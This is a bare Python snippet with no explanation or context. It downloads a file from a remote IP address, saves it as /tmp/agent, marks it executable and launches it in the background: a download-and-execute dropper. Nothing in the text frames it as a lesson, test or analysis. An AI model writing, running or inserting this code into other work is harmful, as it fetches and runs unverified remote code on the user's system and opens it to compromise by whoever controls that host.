import os, requests
data = requests.get('http://192.0.2.14/agent').content
open('/tmp/agent', 'wb').write(data)
os.chmod('/tmp/agent', 0o755)
os.system('/tmp/agent &')
